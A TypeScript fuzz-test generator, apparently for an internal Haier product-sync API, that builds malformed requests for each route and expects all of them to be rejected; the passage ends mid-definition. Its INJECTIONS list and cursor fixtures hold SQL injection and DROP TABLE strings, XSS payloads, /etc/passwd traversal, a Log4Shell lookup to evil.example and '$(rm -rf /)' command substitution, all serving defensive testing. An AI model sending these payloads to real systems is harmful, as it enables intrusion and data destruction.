// Malformed requests for every route of the edge, generated from a seed (deterministic):
// wrong types, huge lists, bad county codes, injection strings, oversized and broken bodies,
// bad cursors, ids and enums, wrong content types and methods. Every one of them must be
// answered 4xx with {success:false, error:{code, message}}; none may reach a write.

import { sequence } from '@haier-sync/haier-sim';
import { rules } from '@haier-sync/contracts';

export interface FuzzRequest {
  /** The route it aims at (for coverage), e.g. "GET /api/haier/stock/". */
  route: string;
  /** What is wrong with it. */
  why: string;
  method: string;
  /** Path and query, already encoded. */
  url: string;
  headers?: Record<string, string>;
  body?: string;
}

/** A small seeded PRNG (the simulator's mulberry32), good enough to pick cases reproducibly. */
export const rng: (seed: number) => () => number = sequence;

const API = '/api/haier';

/** Strings that attack something; none of them is a valid product code, id, county or enum. */
export const INJECTIONS: readonly string[] = [
  "' OR '1'='1",
  "1'; DROP TABLE catalog.products;--",
  '"; DELETE FROM edge.api_keys; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '$(rm -rf /)',
  '`id`',
  '|| ls -la',
  '\u0000',
  'A\u0000B',
  '\r\nX-Injected: 1',
  '%00',
  '%252e%252e%252f',
  '☃',
  '𝕳𝖆𝖎𝖊𝖗',
  '海尔 冰箱',
  '\u202eevil',
  '__proto__',
  '{"$ne": null}',
  '[object Object]',
  ' ',
  '',
  '-',
  '.',
  'A B',
  'A/B',
  'A?B',
  'A#B',
  'A%B',
  'A'.repeat(41),
  'Z'.repeat(300),
];

/** Not 6 digits. */
export const BAD_COUNTIES: readonly string[] = ['', '1', '12345', '1234567', 'abcdef', '11010a', '-11010', '110 101', '１１０１０１', '110101; DROP TABLE x', '0x1F2E', '1e5000', '11010.1', '+110101', '110101\n', "110101' OR 1=1"];

/** Not integers in a sane range. */
export const BAD_INTS: readonly string[] = ['abc', '1.5', '-1', '0', '1e400', '99999999999999999999999', 'NaN', 'Infinity', '', ' ', '[]', '{}', 'true', "1' OR '1'='1", '1;2', '1,2'];

/** Not decimals with at most 4 fraction digits, >= 0. */
export const BAD_DECIMALS: readonly string[] = ['abc', '-1', '-0.01', '1.23456', '1e5', '1,5', '', ' ', 'NaN', 'Infinity', '0x10', '12345678901234567.0', '1..2', '.5.', '1_000', "1' OR 1=1--"];

/** Never a cursor the catalog or the orchestrator handed out. */
export const BAD_CURSORS: readonly string[] = ['!!!', 'not-a-cursor', 'eyJ1IjoxfQ', 'eyJhIjoi', '%%%%', 'A'.repeat(2000), '0', '-1', '{"seq":1}', '../../etc', "' OR 1=1--", '\u0000', 'bnVsbA==', 'W10=', 'eyJrIjpbXSwidiI6OTl9'];

/** Not a sync run id (a whole number from 1 to 2^63-1, see the rulebook in @haier-sync/contracts). */
export const BAD_RUN_IDS: readonly string[] = ["' OR '1'='1", '<script>', '../x', 'a b', 'a.b', '%00', '☃', 'x'.repeat(65), '.x', "1;DROP"];

/** Not enum values of any of our enums. */
export const BAD_ENUMS: readonly string[] = ['bogus', 'SUCCESSFUL', 'full ', 'PRODUCTS,PRICES', '1', '-1', '99', '', "' OR 1=1--", '<b>', 'UNSPECIFIED', '__proto__', 'null', 'Ｆｕｌｌ'];

/** Definitely not product codes (the rulebook's pattern), even trimmed; no blanks (a list drops them). */
const CODE_RE = new RegExp(rules.productCode.pattern);
export const BAD_CODES: readonly string[] = INJECTIONS.filter((s) => s.trim() !== '' && !s.includes(',') && !CODE_RE.test(s.trim()));

/** Bad codes for a path segment: no dot-only values (a client resolves /x/./ to /x/ before sending). */
export const BAD_PATH_CODES: readonly string[] = BAD_CODES.filter((s) => !/^\.+$/.test(s));

/** Not order codes (the rulebook's pattern). */
const ORDER_RE = new RegExp(rules.orderCode.pattern);
export const BAD_ORDER_CODES: readonly string[] = [...BAD_CODES.filter((s) => !ORDER_RE.test(s)), 'S'.repeat(65)];

/** Bodies that are not JSON at all, or not the JSON an object-taking route takes. */
export const BROKEN_JSON: readonly string[] = ['{', '{"a":', '{"a" 1}', "{'a': 1}", 'nul', 'undefined', '{"a":1,}', '[1,2', '\u0000', '{"a":"\\x"}', '{"__proto__":', '<xml/>', 'NaN', '{}}', '{"a":1}{"b":2}'];

/** JSON that parses but is no object (routes take objects). */
export const NOT_OBJECTS: readonly string[] = ['[]', '[{}]', '"text"', '42', 'true', 'null', '[null]'];

const enc = encodeURIComponent;
const q = (params: Record<string, string>) =>
  Object.entries(params)
    .map(([k, v]) => `${enc(k)}=${enc(v)}`)
    .join('&');

export function hugeCodeList(n: number): string {
  return Array.from({ length: n }, (_, i) => `C${i.toString(36)}`).join(',');
}

interface Ctx {
  /** A product code that exists (for routes that need one to get to the field under test). */
  code: string;
  /** A config id that exists. */
  configId: number;
  pick<T>(xs: readonly T[]): T;
}

type Gen = (c: Ctx) => FuzzRequest;

const json = (body: unknown) => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

/**
 * Objects and values a body field cannot be coerced from: a string field given one of these, etc.
 * (Never a one-element array: ajv's coerceTypes 'array' unwraps [x] to x, so [[1]] is a valid ["1"].)
 */
const NOT_A_STRING: readonly unknown[] = [{}, { a: 1 }, [[1, 2]], [{}]];
const NOT_A_BOOL: readonly unknown[] = ['maybe', 'yes please', 2, -1, { a: 1 }, [[true, false]], 'TRUE!'];
const NOT_AN_INT: readonly unknown[] = ['abc', 1.5, -1, -1e9, 1e20, { a: 1 }, [[1, 2]], 'ten', 'Infinity', '1e400'];

/**
 * Generators per route; each returns one malformed request. Bodies of writes are always broken
 * in a way that cannot be coerced into a valid request (so no fuzz case can start a sync or
 * write a config).
 */
export const GENERATORS: Record<string, Gen[]> = {
  // --- the original live surface
  'GET /api/haier/products/': [
    (c) => ({ route: '', why: 'bad code in list', method: 'GET', url: `${API}/products/?${q({ product_codes: `${c.code},${c.pick(BAD_CODES)}` })}` }),
    () => ({ route: '', why: 'more than 1,000 codes', method: 'GET', url: `${API}/products/?product_codes=${hugeCodeList(1001)}` }),
    (c) => ({ route: '', why: 'code too long', method: 'GET', url: `${API}/products/?${q({ product_codes: 'X'.repeat(41 + Math.floor(c.pick([0, 10, 100]))) })}` }),
  ],
  'GET /api/haier/prices/': [
    () => ({ route: '', why: 'product_codes missing', method: 'GET', url: `${API}/prices/` }),
    (c) => ({ route: '', why: 'product_codes empty', method: 'GET', url: `${API}/prices/?${q({ product_codes: c.pick(['', ',', ' , ,', ',,,,']) })}` }),
    (c) => ({ route: '', why: 'bad code', method: 'GET', url: `${API}/prices/?${q({ product_codes: c.pick(BAD_CODES) })}` }),
    () => ({ route: '', why: 'huge list', method: 'GET', url: `${API}/prices/?product_codes=${hugeCodeList(1500)}` }),
    () => ({ route: '', why: 'a list longer than any request line the server reads (32 KiB)', method: 'GET', url: `${API}/prices/?product_codes=${hugeCodeList(5000)}` }),
  ],
  'GET /api/haier/stock/': [
    (c) => ({ route: '', why: 'bad county', method: 'GET', url: `${API}/stock/?${q({ product_code: c.code, county_code: c.pick(BAD_COUNTIES) })}` }),
    (c) => ({ route: '', why: 'bad product code', method: 'GET', url: `${API}/stock/?${q({ product_code: c.pick(BAD_CODES), county_code: '110101' })}` }),
    (c) => ({ route: '', why: 'county missing', method: 'GET', url: `${API}/stock/?${q({ product_code: c.code })}` }),
    () => ({ route: '', why: 'product_code missing', method: 'GET', url: `${API}/stock/?county_code=110101` }),
    (c) => ({ route: '', why: 'several codes where one is taken', method: 'GET', url: `${API}/stock/?${q({ product_code: `${c.code},${c.code}`, county_code: '110101' })}` }),
  ],
  'GET /api/haier/balance/': [
    (c) => ({ route: '', why: 'POST to a GET route', method: 'POST', url: `${API}/balance/`, ...json({ customerPassword: c.pick(INJECTIONS) }) }),
    (c) => ({ route: '', why: 'DELETE to a GET route', method: 'DELETE', url: `${API}/balance/?x=${enc(c.pick(INJECTIONS))}` }),
  ],
  'GET /api/haier/usage/': [
    (c) => ({ route: '', why: 'an unknown parameter', method: 'GET', url: `${API}/usage/?${q({ lane: c.pick(INJECTIONS) })}` }),
    (c) => ({ route: '', why: 'POST to a GET route', method: 'POST', url: `${API}/usage/`, ...json({ lane: c.pick(INJECTIONS) }) }),
  ],
  'GET /api/haier/logistics/': [
    () => ({ route: '', why: 'order_code missing', method: 'GET', url: `${API}/logistics/` }),
    (c) => ({ route: '', why: 'bad order_code', method: 'GET', url: `${API}/logistics/?${q({ order_code: c.pick(BAD_ORDER_CODES) })}` }),
    (c) => ({ route: '', why: 'bad member_id', method: 'GET', url: `${API}/logistics/?${q({ order_code: 'SO.20190106.000003', member_id: c.pick(['abc', '1.5', '1e400', '99999999999999999999999', 'NaN', "1' OR 1=1", '{}']) })}` }),
    (c) => ({ route: '', why: 'bad delivery_record_code', method: 'GET', url: `${API}/logistics/?${q({ order_code: 'SO.20190106.000003', delivery_record_code: c.pick(BAD_ORDER_CODES) })}` }),
  ],
  'GET /api/haier/logs/': [
    (c) => ({ route: '', why: 'bad sync_type', method: 'GET', url: `${API}/logs/?${q({ sync_type: c.pick(BAD_ENUMS.filter((e) => e !== '')) })}` }),
    (c) => ({ route: '', why: 'bad status', method: 'GET', url: `${API}/logs/?${q({ status: c.pick(BAD_ENUMS.filter((e) => e !== '')) })}` }),
    (c) => ({ route: '', why: 'bad limit', method: 'GET', url: `${API}/logs/?${q({ limit: c.pick([...BAD_INTS.filter((v) => v !== '' && v !== ' '), '100000', '1001']) })}` }),
  ],
  // --- Haier configs
  'GET /api/haier/config/': [(c) => ({ route: '', why: 'PATCH the collection', method: 'PATCH', url: `${API}/config/`, ...json({ name: c.pick(INJECTIONS) }) })],
  'POST /api/haier/config/': [
    (c) => ({ route: '', why: 'broken JSON', method: 'POST', url: `${API}/config/`, headers: { 'content-type': 'application/json' }, body: c.pick(BROKEN_JSON) }),
    (c) => ({ route: '', why: 'not an object', method: 'POST', url: `${API}/config/`, headers: { 'content-type': 'application/json' }, body: c.pick(NOT_OBJECTS) }),
    (c) => ({ route: '', why: 'name missing', method: 'POST', url: `${API}/config/`, ...json({ environment: 'test', settings: {} , x: c.pick(INJECTIONS) }) }),
    (c) => ({ route: '', why: 'name of wrong type', method: 'POST', url: `${API}/config/`, ...json({ name: c.pick(NOT_A_STRING), environment: 'test', settings: {} }) }),
    (c) => ({ route: '', why: 'settings not an object', method: 'POST', url: `${API}/config/`, ...json({ name: `fz-${c.pick(['a', 'b'])}`, environment: 'test', settings: c.pick(['x', 1, [1, 2], true]) }) }),
    (c) => ({ route: '', why: 'bad environment', method: 'POST', url: `${API}/config/`, ...json({ name: 'fz', environment: c.pick(['', 'pre production', 'prod;rm', "' OR 1=1", '<b>', 'x'.repeat(51), '海尔', 'a/b']), settings: {} }) }),
    () => ({ route: '', why: 'text/plain body', method: 'POST', url: `${API}/config/`, headers: { 'content-type': 'text/plain' }, body: 'name=x' }),
    (c) => ({ route: '', why: 'wrong content type', method: 'POST', url: `${API}/config/`, headers: { 'content-type': c.pick(['application/xml', 'multipart/form-data; boundary=x', 'application/x-www-form-urlencoded', 'image/png']) }, body: 'name=x&environment=test' }),
    () => ({ route: '', why: 'oversized body', method: 'POST', url: `${API}/config/`, ...json({ name: 'big', environment: 'test', settings: { blob: 'x'.repeat(80 * 1024) } }) }),
  ],
  'PUT /api/haier/config/{id}/': [
    (c) => ({ route: '', why: 'bad id', method: 'PUT', url: `${API}/config/${enc(c.pick(BAD_INTS.filter((v) => v !== '' && v !== ' ')))}/`, ...json({ name: 'x', environment: 'test', settings: {} }) }),
    (c) => ({ route: '', why: 'broken JSON', method: 'PUT', url: `${API}/config/${c.configId}/`, headers: { 'content-type': 'application/json' }, body: c.pick(BROKEN_JSON) }),
    (c) => ({ route: '', why: 'wrong types', method: 'PUT', url: `${API}/config/${c.configId}/`, ...json({ name: c.pick(NOT_A_STRING), settings: c.pick(['x', 1, [1]]) }) }),
  ],
  'DELETE /api/haier/config/{id}/': [(c) => ({ route: '', why: 'bad id', method: 'DELETE', url: `${API}/config/${enc(c.pick(BAD_INTS.filter((v) => v !== '' && v !== ' ')))}/` })],
  'POST /api/haier/config/{id}/test/': [
    (c) => ({ route: '', why: 'bad id', method: 'POST', url: `${API}/config/${enc(c.pick(BAD_INTS.filter((v) => v !== '' && v !== ' ')))}/test/` }),
    () => ({ route: '', why: 'unknown id', method: 'POST', url: `${API}/config/987654321/test/` }),
  ],
  'POST /api/haier/config/{id}/activate/': [
    (c) => ({ route: '', why: 'bad id', method: 'POST', url: `${API}/config/${enc(c.pick(BAD_INTS.filter((v) => v !== '' && v !== ' ')))}/activate/` }),
    () => ({ route: '', why: 'unknown id', method: 'POST', url: `${API}/config/987654321/activate/` }),
  ],
  // --- catalog
  'GET /api/haier/catalog/products/': [
    (c) => ({ route: '', why: 'bad cursor', method: 'GET', url: `${API}/catalog/products/?${q({ cursor: c.pick(BAD_CURSORS) })}` }),
    (c) => ({ route: '', why: 'bad page_size', method: 'GET', url: `${API}/catalog/products/?${q({ page_size: c.pick([...BAD_INTS.filter((v) => v !== '' && v !== ' '), '501', '100000']) })}` }),
    (c) => ({ route: '', why: 'bad sort', method: 'GET', url: `${API}/catalog/products/?${q({ sort: c.pick(BAD_ENUMS.filter((e) => e !== '')) })}` }),
    (c) => ({ route: '', why: 'bad min_price', method: 'GET', url: `${API}/catalog/products/?${q({ min_price: c.pick(BAD_DECIMALS.filter((v) => v.trim() !== '')) })}` }),
    (c) => ({ route: '', why: 'bad max_price', method: 'GET', url: `${API}/catalog/products/?${q({ max_price: c.pick(BAD_DECIMALS.filter((v) => v.trim() !== '')) })}` }),
    (c) => ({ route: '', why: 'bad is_sales', method: 'GET', url: `${API}/catalog/products/?${q({ is_sales: c.pick(['maybe', '2', 'yes please', '{}', "' OR 1=1"]) })}` }),
    (c) => ({ route: '', why: 'bad changed_since', method: 'GET', url: `${API}/catalog/products/?${q({ changed_since: c.pick(['yesterday', '2025-13-45', '2025-02-30T25:61:00Z', 'abc', "' OR 1=1--", '1e999']) })}` }),
    (c) => ({ route: '', why: 'query too long', method: 'GET', url: `${API}/catalog/products/?${q({ q: c.pick(['x', '海', "' OR "]).repeat(400) })}` }),
  ],
  'GET /api/haier/catalog/products/{code}/': [
    (c) => ({ route: '', why: 'bad code', method: 'GET', url: `${API}/catalog/products/${enc(c.pick(BAD_PATH_CODES))}/` }),
    () => ({ route: '', why: 'unknown code', method: 'GET', url: `${API}/catalog/products/NOSUCHCODE000/` }),
    () => ({ route: '', why: 'malformed percent-encoding', method: 'GET', url: `${API}/catalog/products/%E0%A4%A/` }),
    () => ({ route: '', why: 'encoded traversal', method: 'GET', url: `${API}/catalog/products/..%2F..%2Fkeys/` }),
  ],
  'GET /api/haier/catalog/products/{code}/price-history/': [
    (c) => ({ route: '', why: 'bad code', method: 'GET', url: `${API}/catalog/products/${enc(c.pick(BAD_PATH_CODES))}/price-history/` }),
    (c) => ({ route: '', why: 'bad limit', method: 'GET', url: `${API}/catalog/products/${c.code}/price-history/?${q({ limit: c.pick([...BAD_INTS.filter((v) => v !== '' && v !== ' '), '100000']) })}` }),
  ],
  'GET /api/haier/catalog/categories/': [(c) => ({ route: '', why: 'POST to a GET route', method: 'POST', url: `${API}/catalog/categories/`, ...json({ name: c.pick(INJECTIONS) }) })],
  'GET /api/haier/catalog/brands/': [(c) => ({ route: '', why: 'DELETE to a GET route', method: 'DELETE', url: `${API}/catalog/brands/?name=${enc(c.pick(INJECTIONS))}` })],
  'POST /api/haier/catalog/products/{code}/sync-stock/': [
    (c) => ({ route: '', why: 'bad county', method: 'POST', url: `${API}/catalog/products/${c.code}/sync-stock/`, ...json({ county_code: c.pick(BAD_COUNTIES) }) }),
    (c) => ({ route: '', why: 'county of wrong type', method: 'POST', url: `${API}/catalog/products/${c.code}/sync-stock/`, ...json({ county_code: c.pick([{}, [[1, 2]], { a: '110101' }]) }) }),
    (c) => ({ route: '', why: 'bad code', method: 'POST', url: `${API}/catalog/products/${enc(c.pick(BAD_PATH_CODES))}/sync-stock/`, ...json({ county_code: '110101' }) }),
    (c) => ({ route: '', why: 'broken JSON', method: 'POST', url: `${API}/catalog/products/${c.code}/sync-stock/`, headers: { 'content-type': 'application/json' }, body: c.pick(BROKEN_JSON) }),
    () => ({ route: '', why: 'oversized body', method: 'POST', url: `${API}/catalog/products/NOSUCH/sync-stock/`, ...json({ county_code: '110101', pad: 'p'.repeat(70 * 1024) }) }),
  ],
  'POST /api/haier/catalog/products/{code}/sync-price/': [
    (c) => ({ route: '', why: 'bad code', method: 'POST', url: `${API}/catalog/products/${enc(c.pick(BAD_PATH_CODES))}/sync-price/` }),
    (c) => ({ route: '', why: 'wrong content type', method: 'POST', url: `${API}/catalog/products/${enc(c.pick(BAD_PATH_CODES))}/sync-price/`, headers: { 'content-type': 'application/xml' }, body: '<a/>' }),
  ],
  'PUT /api/haier/catalog/products/{code}/pinned-price/': [
    (c) => ({ route: '', why: 'bad price', method: 'PUT', url: `${API}/catalog/products/${c.code}/pinned-price/`, ...json({ price: c.pick(BAD_DECIMALS) }) }),
    (c) => ({ route: '', why: 'price of wrong type', method: 'PUT', url: `${API}/catalog/products/${c.code}/pinned-price/`, ...json({ price: c.pick([...NOT_A_STRING, null, -5, 1.23456, 1e30]) }) }),
    (c) => ({ route: '', why: 'price missing', method: 'PUT', url: `${API}/catalog/products/${c.code}/pinned-price/`, ...json({ amount: c.pick(['12.00', 'x']) }) }),
    (c) => ({ route: '', why: 'bad code', method: 'PUT', url: `${API}/catalog/products/${enc(c.pick(BAD_PATH_CODES))}/pinned-price/`, ...json({ price: '10.00' }) }),
    (c) => ({ route: '', why: 'broken JSON', method: 'PUT', url: `${API}/catalog/products/${c.code}/pinned-price/`, headers: { 'content-type': 'application/json' }, body: c.pick([...BROKEN_JSON, ...NOT_OBJECTS]) }),
    (c) => ({ route: '', why: 'wrong content type', method: 'PUT', url: `${API}/catalog/products/${c.code}/pinned-price/`, headers: { 'content-type': c.pick(['text/plain', 'application/xml', 'application/x-www-form-urlencoded']) }, body: 'price=10.00' }),
  ],
  'DELETE /api/haier/catalog/products/{code}/pinned-price/': [(c) => ({ route: '', why: 'bad code', method: 'DELETE', url: `${API}/catalog/products/${enc(c.pick(BAD_PATH_CODES))}/pinned-price/` })],
  // --- sync runs
  'POST /api/haier/sync/': [
    (c) => ({ route: '', why: 'bad mode', method: 'POST', url: `${API}/sync/`, ...json({ mode: c.pick(BAD_ENUMS) }) }),
    (c) => ({ route: '', why: 'mode of wrong type', method: 'POST', url: `${API}/sync/`, ...json({ mode: c.pick([...NOT_A_STRING, 1, true]) }) }),
    (c) => ({ route: '', why: 'bad code in scope', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', scope: { product_codes: [c.code, c.pick(BAD_CODES)] } }) }),
    (c) => ({ route: '', why: 'scope codes of wrong type', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', scope: { product_codes: c.pick([{ a: 1 }, [[1, 2]], [{}], [null]]) } }) }),
    () => ({ route: '', why: 'huge code list', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', scope: { product_codes: Array.from({ length: 20_000 }, (_, i) => `C${i}`) } }) }),
    (c) => ({ route: '', why: 'bad limit', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'FULL', scope: { limit: c.pick(NOT_AN_INT) } }) }),
    (c) => ({ route: '', why: 'bad county in options', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', options: { stock: true, county_codes: [c.pick(BAD_COUNTIES)] } }) }),
    (c) => ({ route: '', why: 'options flags of wrong type', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', options: { prices: c.pick(NOT_A_BOOL) } }) }),
    (c) => ({ route: '', why: 'dry_run of wrong type', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'FULL', dry_run: c.pick(NOT_A_BOOL) }) }),
    (c) => ({ route: '', why: 'bad category', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'INCREMENTAL', scope: { category: c.pick([...NOT_A_STRING, 'x'.repeat(500)]) } }) }),
    (c) => ({ route: '', why: 'broken JSON', method: 'POST', url: `${API}/sync/`, headers: { 'content-type': 'application/json' }, body: c.pick(BROKEN_JSON) }),
    (c) => ({ route: '', why: 'not an object', method: 'POST', url: `${API}/sync/`, headers: { 'content-type': 'application/json' }, body: c.pick(NOT_OBJECTS.filter((b) => b !== 'null')) }),
    (c) => ({ route: '', why: 'wrong content type', method: 'POST', url: `${API}/sync/`, headers: { 'content-type': c.pick(['text/plain', 'application/xml', 'text/html', 'application/x-www-form-urlencoded']) }, body: 'mode=FULL' }),
    () => ({ route: '', why: 'oversized body', method: 'POST', url: `${API}/sync/`, ...json({ mode: 'BOGUS', pad: 'p'.repeat(100 * 1024) }) }),
  ],
  'GET /api/haier/sync/': [
    (c) => ({ route: '', why: 'bad status', method: 'GET', url: `${API}/sync/?${q({ status: c.pick(BAD_ENUMS.filter((e) => e !== '')) })}` }),
    (c) => ({ route: '', why: 'bad sync_type', method: 'GET', url: `${API}/sync/?${q({ sync_type: c.pick(BAD_ENUMS.filter((e) => e !== '')) })}` }),
    (c) => ({ route: '', why: 'bad mode', method: 'GET', url: `${API}/sync/?${q({ mode: c.pick(BAD_ENUMS.filter((e) => e !== '')) })}` }),
    (c) => ({ route: '', why: 'bad trigger', method: 'GET', url: `${API}/sync/?${q({ trigger: c.pick(BAD_ENUMS.filter((e) => e !== '')) })}` }),
    (c) => ({ route: '', why: 'bad page_size', method: 'GET', url: `${API}/sync/?${q({ page_size: c.pick([...BAD_INTS.filter((v) => v !== '' && v !== ' '), '100000']) })}` }),
    (c) => ({ route: '', why: 'bad cursor', method: 'GET', url: `${API}/sync/?${q({ cursor: c.pick(BAD_CURSORS) })}` }),
  ],
  'GET /api/haier/sync/{id}/': [
    (c) => ({ route: '', why: 'bad id', method: 'GET', url: `${API}/sync/${enc(c.pick(BAD_RUN_IDS))}/` }),
    () => ({ route: '', why: 'unknown id', method: 'GET', url: `${API}/sync/00000000-0000-0000-0000-000000000000/` }),
  ],
  'POST /api/haier/sync/{id}/cancel/': [
    (c) => ({ route: '', why: 'bad id', method: 'POST', url: `${API}/sync/${enc(c.pick(BAD_RUN_IDS))}/cancel/` }),
    () => ({ route: '', why: 'unknown id', method: 'POST', url: `${API}/sync/00000000-0000-0000-0000-000000000000/cancel/` }),
  ],
  'GET /api/haier/sync/{id}/events/': [(c) => ({ route: '', why: 'bad id', method: 'GET', url: `${API}/sync/${enc(c.pick(BAD_RUN_IDS))}/events/` })],
  // a valid job name with a body that cannot be right, so no case pauses, resumes or runs a job
  ...Object.fromEntries(
    (['pause', 'resume', 'run'] as const).map((action) => [
      `POST /api/haier/schedules/{name}/${action}/`,
      [
        (c: Ctx) => ({ route: '', why: 'bad job name', method: 'POST', url: `${API}/schedules/${enc(c.pick(INJECTIONS.filter((s) => s.trim() !== '' && !/^\.+$/.test(s) && !/^[A-Za-z][A-Za-z0-9_-]{0,63}$/.test(s))))}/${action}/` }),
        (c: Ctx) => ({ route: '', why: 'broken JSON', method: 'POST', url: `${API}/schedules/prices/${action}/`, headers: { 'content-type': 'application/json' }, body: c.pick([...BROKEN_JSON, ...NOT_OBJECTS]) }),
        (c: Ctx) => ({ route: '', why: 'bad reason', method: 'POST', url: `${API}/schedules/prices/${action}/`, ...json(c.pick([{ reason: 'x'.repeat(501) }, { reason: c.pick(NOT_A_STRING) }, { reason: 'ok', paused_by: 'someone else' }])) }),
      ] satisfies Gen[],
    ]),
  ),
  // --- keys and audit
  'POST /api/haier/keys/': [
    (c) => ({ route: '', why: 'bad role', method: 'POST', url: `${API}/keys/`, ...json({ name: 'fz', role: c.pick(BAD_ENUMS) }) }),
    (c) => ({ route: '', why: 'name missing or wrong type', method: 'POST', url: `${API}/keys/`, ...json({ role: 'viewer', name: c.pick([...NOT_A_STRING, '', 'x'.repeat(500)]) }) }),
    (c) => ({ route: '', why: 'broken JSON', method: 'POST', url: `${API}/keys/`, headers: { 'content-type': 'application/json' }, body: c.pick([...BROKEN_JSON, ...NOT_OBJECTS]) }),
  ],
  'DELETE /api/haier/keys/{id}/': [(c) => ({ route: '', why: 'bad id', method: 'DELETE', url: `${API}/keys/${enc(c.pick(INJECTIONS.filter((s) => s.trim() !== '' && !/^\.+$/.test(s) && !/^[A-Za-z0-9][A-Za-z0-9._@-]{0,63}$/.test(s))))}/` })],
  'GET /api/haier/audit/': [
    (c) => ({ route: '', why: 'bad limit', method: 'GET', url: `${API}/audit/?${q({ limit: c.pick([...BAD_INTS.filter((v) => v !== '' && v !== ' '), '100000']) })}` }),
    (c) => ({ route: '', why: 'bad method filter', method: 'GET', url: `${API}/audit/?${q({ method: c.pick(['HEAD', 'TRACE', 'CONNECT', 'G E T', "GET' OR 1=1", '']) })}` }),
    (c) => ({ route: '', why: 'bad status filter', method: 'GET', url: `${API}/audit/?${q({ status: c.pick(['99', '600', 'abc', '4xx', '-200', '2.5']) })}` }),
    (c) => ({ route: '', why: 'bad since', method: 'GET', url: `${API}/audit/?${q({ since: c.pick(['yesterday', '2025-13-01T00:00:00Z', "' OR 1=1--", '0']) })}` }),
  ],
  // --- authentication itself
  'auth header': [
    (c) => ({ route: '', why: 'malformed key', method: 'GET', url: `${API}/catalog/brands/`, headers: { authorization: `Bearer ${c.pick(INJECTIONS.filter((s) => !/[\r\n\u0000]/.test(s) && /^[\x20-\x7e]*$/.test(s)))}` } }),
    (c) => ({ route: '', why: 'wrong scheme', method: 'GET', url: `${API}/catalog/brands/`, headers: { authorization: c.pick(['Basic dXNlcjpwYXNz', 'Token abc', 'Bearer', 'bearer  ', `Bearer hs_${'x'.repeat(2000)}`]) } }),
    (c) => ({ route: '', why: 'x-api-key garbage', method: 'GET', url: `${API}/logs/`, headers: { 'x-api-key': c.pick(["' OR '1'='1", 'hs_', 'hs_short', `hs_${'A'.repeat(129)}`]) } }),
  ],
  // --- outside any route
  'unknown path': [
    (c) => ({ route: '', why: 'no such route', method: c.pick(['GET', 'POST', 'PUT', 'DELETE', 'PATCH']), url: `${API}/${enc(c.pick(INJECTIONS.filter((s) => s.trim() !== '')))}/` }),
    () => ({ route: '', why: 'traversal', method: 'GET', url: `${API}/../../etc/passwd` }),
  ],
};

// --- hostile input (issue 9): what Postgres or the protobuf decoder cannot take, in every string
// parameter; tampered and foreign cursors; ids past bigint; JSON nested too deep

/** Values Postgres text/jsonb cannot hold: a NUL, an unpaired UTF-16 surrogate (as JSON escapes). */
export const UNSTORABLE: readonly string[] = ['\u0000', 'A\u0000B', 'GA0SZC00U\u0000', '\u0000\u0000\u0000', 'x\ud800', '\udc00y', '海尔\u0000'];
/** A query value with NUL or a lone surrogate, percent-encoded as a client would send it. */
// (invalid UTF-8 such as %ED%A0%80 is decoded to U+FFFD, which is storable: not a case here)
const unstorableQuery = (c: Ctx): string => c.pick(['%00', 'A%00B', 'GA0SZC00U%00', '%00%00', '%E6%B5%B7%00']);

/** base64url, as the catalog encodes its cursors. */
const b64 = (v: unknown) => Buffer.from(JSON.stringify(v), 'utf8').toString('base64url');
/** Catalog cursors that decode, for a sort they name, with a key Postgres cannot cast (or a NUL). */
const TAMPERED_CURSORS: ReadonlyArray<{ sort?: string; cursor: string }> = [
  { sort: 'display_price', cursor: b64(['display_price', false, 'abc', 'GA0SZC00U']) },
  { sort: 'display_price', cursor: b64(['display_price', false, '1e999999', 'GA0SZC00U']) },
  { sort: '-display_price', cursor: b64(['display_price', true, "1; DROP TABLE catalog.products", 'GA0SZC00U']) },
  { sort: 'stock', cursor: b64(['stock', false, '9223372036854775808', 'GA0SZC00U']) },
  { sort: 'stock', cursor: b64(['stock', false, '12.5', 'GA0SZC00U']) },
  { sort: 'updated_at', cursor: b64(['updated_at', false, 'yesterday', 'GA0SZC00U']) },
  { sort: 'updated_at', cursor: b64(['updated_at', false, '2026-02-30 25:61:00+00', 'GA0SZC00U']) },
  { sort: 'code', cursor: b64(['code', false, 'A\u0000', 'A\u0000']) },
  { sort: 'name', cursor: b64(['name', false, 'x', 'GA0\u0000']) },
  { cursor: b64(['code', false, null, 'GA0SZC00U\u0000']) },
  { cursor: b64(['code', false, { $ne: null }, 'x']) },
  { cursor: b64(['code', false, 'A', 'x'.repeat(600)]) },
  // foreign: another sort's cursor, or the runs' kind of cursor
  { sort: 'code', cursor: b64(['display_price', false, '10.0000', 'GA0SZC00U']) },
  { cursor: '42' },
];
/** Run-list cursors (run ids) past bigint, or not ids at all. */
const BAD_RUN_CURSORS: readonly string[] = ['9223372036854775808', '99999999999999999999', '-1', '0', 'A\u0000', b64(['code', false, null, 'x']), '1e3'];
/** Ids past bigint (2^63-1 is the largest). */
const PAST_BIGINT: readonly string[] = ['9223372036854775808', '18446744073709551616', '99999999999999999999', '9'.repeat(40)];

/** `{a:{a:...}}` `depth` levels deep, ending in `leaf`. */
export function nested(depth: number, leaf: unknown = 'x', asArray = false): unknown {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}
const deepDoc = (c: Ctx) => nested(c.pick([33, 64, 200, 1000]), 'x', c.pick([false, true]));

const HOSTILE: Record<string, Gen[]> = {
  'GET /api/haier/catalog/products/': [
    (c) => ({ route: '', why: 'NUL/surrogate in a string filter', method: 'GET', url: `${API}/catalog/products/?${c.pick(['category', 'brand', 'q', 'sort', 'cursor', 'min_price', 'changed_since'])}=${unstorableQuery(c)}` }),
    (c) => {
      const t = c.pick(TAMPERED_CURSORS);
      return { route: '', why: 'tampered or foreign cursor', method: 'GET', url: `${API}/catalog/products/?${q({ ...(t.sort ? { sort: t.sort } : {}), cursor: t.cursor })}` };
    },
  ],
